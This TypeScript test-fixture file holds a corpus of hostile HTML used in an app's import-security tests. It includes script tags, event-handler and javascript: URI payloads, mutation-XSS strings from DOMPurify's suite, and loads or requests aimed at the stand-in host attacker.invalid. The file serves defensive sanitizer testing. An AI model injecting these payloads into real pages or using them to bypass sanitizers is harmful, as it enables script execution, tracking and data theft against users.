/**
 * A corpus of hostile HTML for the import path's security tests (issue 15): each payload, if
 * anything of it ran or loaded, would set `window.__pwned`, open a dialog (alert) or request a
 * URL on `attacker.invalid`. Used by html-hostile.spec.ts (the importer's output is plain
 * text) and tests/e2e/hostile-import.spec.ts (pasted and imported in Chromium, nothing runs).
 *
 * The entries marked `from: 'dompurify'` are taken from DOMPurify's own test suite,
 * test/fixtures/expect.mjs in https://github.com/cure53/DOMPurify (Apache-2.0 or MPL-2.0),
 * unchanged but for a few `alert(n)` that also set the flag; the others are written here.
 * Test data only: never imported by the app.
 */

export interface HostilePayload {
	name: string;
	from: 'dompurify' | 'dossier';
	html: string;
}

const PWN = 'window.__pwned=1';
const ATTACKER = 'https://attacker.invalid';

/** Payloads written for Dossier: one per way a page could run, load or navigate. */
const OWN: HostilePayload[] = (
	[
		['script tag', `<script>${PWN}</script>`],
		['external script', `<script src="${ATTACKER}/x.js"></script>`],
		['img onerror', `<img src="x" onerror="${PWN}">`],
		['tracking pixel', `<img src="${ATTACKER}/pixel.gif" alt="">`],
		['srcset pixel', `<img srcset="${ATTACKER}/pixel-2x.gif 2x" alt="">`],
		['body onload', `<body onload="${PWN}">`],
		[
			'details ontoggle (fires without a click)',
			`<details open ontoggle="${PWN}"><summary>More</summary></details>`
		],
		['input autofocus onfocus', `<input autofocus onfocus="${PWN}">`],
		['video source onerror', `<video><source src="x" onerror="${PWN}"></video>`],
		['audio src', `<audio autoplay src="${ATTACKER}/sound.mp3"></audio>`],
		['onclick link', `<a href="#" onclick="${PWN}">Read more</a>`],
		['javascript: link', `<a href="javascript:${PWN}">the critics' letter</a>`],
		['JaVaScRiPt: with entities', `<a href="&#106;avascript&#58;${PWN}">the annex</a>`],
		['data: link', `<a href="data:text/html,<script>parent.${PWN}</script>">the data</a>`],
		['data: iframe', `<iframe src="data:text/html,<script>parent.${PWN}</script>"></iframe>`],
		[
			'iframe srcdoc',
			`<iframe srcdoc="<script>parent.${PWN}</script><img src=${ATTACKER}/srcdoc.gif>"></iframe>`
		],
		['iframe src', `<iframe src="${ATTACKER}/frame"></iframe>`],
		['object data', `<object data="${ATTACKER}/object.swf"></object>`],
		['embed src', `<embed src="${ATTACKER}/embed.swf">`],
		['meta refresh', `<meta http-equiv="refresh" content="0; url=${ATTACKER}/refresh">`],
		[
			'meta refresh to javascript:',
			`<meta http-equiv="refresh" content="0; url=javascript:${PWN}">`
		],
		['base href', `<base href="${ATTACKER}/"><img src="relative-pixel.gif" alt="">`],
		[
			'form action',
			`<form action="${ATTACKER}/form" method="post"><input name="q" value="x"><button>Send</button></form>`
		],
		['formaction javascript:', `<form><button formaction="javascript:${PWN}">Go</button></form>`],
		['stylesheet link', `<link rel="stylesheet" href="${ATTACKER}/style.css">`],
		['prefetch link', `<link rel="prefetch" href="${ATTACKER}/prefetch">`],
		['style @import', `<style>@import url("${ATTACKER}/import.css");</style>`],
		['style background url', `<style>p { background: url("${ATTACKER}/bg.png") }</style>`],
		[
			'inline style url',
			`<p style="background-image: url('${ATTACKER}/inline-bg.png')">Styled text.</p>`
		],
		['CSS expression', `<div style="width: expression(${PWN})">Old IE expression.</div>`],
		[
			'CSS javascript: url',
			`<div style="background: url(javascript:${PWN})">CSS javascript.</div>`
		],
		['SVG script', `<svg><script>${PWN}</script></svg>`],
		['SVG onload', `<svg onload="${PWN}"><circle r="4"></circle></svg>`],
		[
			'SVG animate onbegin',
			`<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"></animate></svg>`
		],
		['SVG use external', `<svg><use href="${ATTACKER}/sprite.svg#x"></use></svg>`],
		[
			'SVG xlink javascript:',
			`<svg><a xlink:href="javascript:${PWN}"><text y="10">Click</text></a></svg>`
		],
		['SVG image external', `<svg><image href="${ATTACKER}/svg-image.png"></image></svg>`],
		[
			'MathML maction',
			`<math><maction actiontype="statusline" xlink:href="javascript:${PWN}">CLICKME<mtext>x</mtext></maction></math>`
		],
		['MathML href', `<math href="javascript:${PWN}">CLICKME</math>`],
		[
			'noscript attribute breakout',
			`<noscript><p title="</noscript><img src=x onerror=${PWN}>"></p></noscript>`
		],
		['template content', `<template><img src="x" onerror="${PWN}"></template>`],
		['marquee onstart', `<marquee onstart="${PWN}">News</marquee>`]
	] as [string, string][]
).map(([name, html]) => ({ name, from: 'dossier' as const, html }));

/** From DOMPurify's test suite (test/fixtures/expect.mjs), mutation XSS above all. */
const DOMPURIFY: HostilePayload[] = (
	[
		['mXSS Variation II', `<img src=x id/=' onerror=alert(1)//'>`],
		[
			'Textarea and comments enabling img element',
			`<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->`
		],
		[
			'Img element inside noscript terminated inside comment',
			`<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>`
		],
		[
			'Img element inside noscript terminated inside attribute',
			`<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>`
		],
		[
			'Img element inside shadow DOM template',
			`<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>`
		],
		[
			'Low-range-ASCII obfuscated JavaScript URI',
			`<a href="\u0001java\u0003script:alert(1)">@shafigullin<a>`
		],
		[
			'Img inside style inside broken option element',
			`\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>`
		],
		['Iframe inside option element', `<option><iframe></select><b><script>alert(1)</script>`],
		[
			'Image after style to trick jQuery tag-completion',
			`<b><style><style/><img src=x onerror=alert(1)>`
		],
		[
			'DOM clobbering attack using name=body',
			`<image name=body><image name=adoptNode>@mmrupp<image name=firstElementChild><svg onload=alert(1)>`
		],
		[
			'DOM clobbering attack using name=body and injecting SVG + keygen',
			`<image name=body><img src=x><svg onload=alert(1); autofocus>, <keygen onfocus=alert(1); autofocus>`
		],
		[
			'Bypass using event handlers and unknown attributes',
			`<button remove=me onmousedown="javascript:alert(1);" onclick="javascript:alert(1)" >@giutro`
		],
		[
			'Bypass using unknown attributes IV',
			`<input x=javascript: autofocus onfocus=alert(1)><svg id=1 onload=alert(1)></svg>`
		],
		[
			'form action with a newline in javascript:',
			`<form action="javasc\nript:alert(1)"><button>XXX</button></form>`
		],
		[
			'button formaction',
			`<div id="1"><form id="foobar"></form><button form="foobar" formaction="javascript:alert(1)">X</button>//["'\`-->]]>]</div>`
		],
		[
			'#11 SVG g onload',
			`<div id="11"><svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(11)"></g></svg>//["'\`-->]]>]</div>`
		],
		[
			'#29 stylesheet with expression',
			`<div id="29"><link rel=stylesheet href=data:,*%7bx:expression(alert(29))%7d//["'\`-->]]>]</div>`
		],
		[
			'#32 table background',
			`<div id="32"><table background="javascript:alert(32)"></table>//["'\`-->]]>]</div>`
		],
		[
			'#37 comment breakout',
			`<div id="37"><!--<img src="--><img src=x onerror=alert(37)//">//["'\`-->]]>]</div>`
		],
		[
			'#40 style breakout',
			`<div id="40"><style><img src="</style><img src=x onerror=alert(40)//">//["'\`-->]]>]</div>`
		],
		[
			'#42 base href javascript:',
			`<div id="42"><head><base href="javascript://"/></head><body><a href="/. /,alert(42)//#">XXX</a></body>//["'\`-->]]>]</div>`
		],
		[
			'#128 SVG style breakout',
			`<div id="128"><svg><style><img/src=x onerror=alert(128)// </b>//["'\`-->]]>]</div>`
		],
		[
			'#129 inline SVG data URI',
			`<div id="129"><svg><image style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.alert(129)</script></svg>")'>\n</svg>//["'\`-->]]>]</div>`
		],
		[
			'#137 SVG animate to javascript:',
			`<div id="137"><svg>\n<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?">\n<circle r="400"></circle>\n<animate attributeName="xlink:href" begin="0" from="javascript:alert(137)" to="&" />\n</a>//["'\`-->]]>]</div>`
		],
		[
			'mXSS with SVG in Chrome 77 1/2',
			`<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>`
		],
		[
			'mXSS with SVG in Chrome 77 2/2',
			`<svg></p><title><a id="</title><img src=x onerror=alert()>"></textarea></svg>`
		],
		[
			'mXSS with MathML in Chrome 77',
			`<math></p><textarea><mi><style></textarea><img src=x onerror=alert(1)></mi></math>`
		],
		[
			'mXSS with SVG templates',
			`<svg></p><title><template><style></title><img src=x onerror=alert(1)>`
		],
		[
			'mXSS with MathML templates',
			`<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>`
		],
		[
			'mXSS with embedded MathML/SVG',
			`<svg></p><math><title><style><img src=x onerror=alert(1)></style></title>`
		],
		['attribute-based mXSS 1/3', `<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`],
		[
			'attribute-based mXSS 2/3',
			`<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>`
		],
		[
			'attribute-based mXSS 3/3',
			`<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>`
		],
		['removal-based mXSS 1/2', `<xmp><svg><b><style><b title='</style><img>'>`],
		[
			'nesting-based mXSS 1/5',
			`<form><math><mtext></form><form><mglyph><style><img src=x onerror=alert(1)>`
		],
		[
			'nesting-based mXSS 2/5',
			`<math><mtext><table><mglyph><style><math href=javascript:alert(1)>CLICKME</math>`
		],
		[
			'nesting-based mXSS 3/5',
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
		],
		[
			'nesting-based mXSS 5/5',
			`<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`
		],
		[
			'HTML inside MathML',
			`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>`
		],
		[
			'namespace confusion with fake elements 1/2',
			`a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">`
		],
		[
			'namespace confusion with fake elements 2/2',
			`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">`
		],
		['template inside select', `<select><template><img src=x onerror=alert(1)></template></select>`]
	] as [string, string][]
).map(([name, html]) => ({ name, from: 'dompurify' as const, html }));

/** Every payload: Dossier's own first, then DOMPurify's. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [...OWN, ...DOMPURIFY];

/**
 * End tags that close whatever a payload left open (raw text, foreign content, a table), so
 * that the page after it is parsed as written: without them an unclosed <xmp> or <textarea>
 * would swallow the rest of the corpus as text, and an unclosed <foreignObject> would hold
 * the rest inside an SVG: the payloads after them would never be parsed as written.
 */
const CLOSE =
	'</iframe></noembed></noframes></noscript></xmp></textarea></title></style></template></select></button></option></a></b></s></p></foreignObject></annotation-xml></desc></mtext></mi></svg></math></table></form>';

/** A sentence of the carrier article, so that Readability finds an article around a payload. */
const sentence = (i: number) =>
	`Councillors in the harbour district voted on measure ${i + 1} of the transport plan on Tuesday, the clerk said.`;

/** One payload inside a short news page: what Readability must still read as an article. */
export function pageWith(payload: HostilePayload, i = 0): string {
	return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Harbour council passes transport plan | The Harbour Gazette</title></head><body><article><h1>Harbour council passes transport plan</h1><p>${sentence(i)} The plan sets out new bus lanes and a ferry route by 2027, the council said.</p><p>${sentence(i + 1)} ${payload.html}${CLOSE}</p><p>The opposition said the plan would raise fares by 4 percent, and it would vote against it next month.</p></article></body></html>`;
}

/**
 * The whole corpus in one news page: the head carries the head payloads, each paragraph one.
 * The article's own paragraphs come first: the nesting-based mXSS strings at the end hold
 * whatever follows them inside MathML, where it is no prose.
 */
export function hostilePage(): string {
	const paragraphs = HOSTILE_PAYLOADS.map(
		(payload, i) => `<p>${sentence(i)} ${payload.html}${CLOSE}</p>`
	).join('\n');
	return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Harbour council passes transport plan | The Harbour Gazette</title>
<meta property="og:site_name" content="The Harbour Gazette">
<meta property="article:published_time" content="2024-05-14T09:00:00Z">
<meta http-equiv="refresh" content="0; url=${ATTACKER}/head-refresh">
<base href="${ATTACKER}/">
<script>${PWN}</script>
<script src="${ATTACKER}/head.js"></script>
<link rel="stylesheet" href="${ATTACKER}/head.css">
<style>@import url("${ATTACKER}/head-import.css"); body { background: url("${ATTACKER}/head-bg.png"); width: expression(${PWN}); }</style>
</head>
<body onload="${PWN}">
<nav><a href="/">Home</a> | <a href="/news">News</a> | <a href="javascript:${PWN}">Sport</a></nav>
<article>
<h1>Harbour council passes transport plan</h1>
<p>The harbour district council passed its transport plan on Tuesday by 31 votes to 12, with new bus lanes and a ferry route to the northern quays by 2027.</p>
<p>Text that shows markup stays text: &lt;script&gt;window.__pwned = 1&lt;/script&gt; is printed, never run.</p>
<p>The council will publish the final route map on 3 June, the clerk said.</p>
${paragraphs}
</article>
</body>
</html>`;
}
